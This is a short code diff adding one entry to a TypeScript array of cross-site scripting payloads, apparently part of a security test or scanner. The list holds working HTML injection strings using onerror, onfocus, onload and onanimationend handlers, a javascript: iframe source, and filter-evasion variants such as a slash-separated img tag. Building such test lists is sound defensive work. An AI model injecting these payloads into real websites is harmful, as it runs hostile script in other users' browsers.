@@ -44,6 +44,8 @@ const markup: Payload[] = [
   { value: `<b tabindex=1 autofocus onfocus=${call}>‹nonce›</b>` },
   { value: `<audio src onerror=${call}>` },
   { value: `<img src=x oonerrornerror=${call}>` },
+  // handlers that are taken out behind white space
+  { value: `<img/src/onerror=${call}>` },
   { value: `<img src=${pixel} onload=${call}>` },
   { value: `<iframe src=javascript:parent.${call}>` },
   { value: `<style>@keyframes k{}</style><b style=animation-name:k onanimationend=${call}>‹nonce›</b>` },
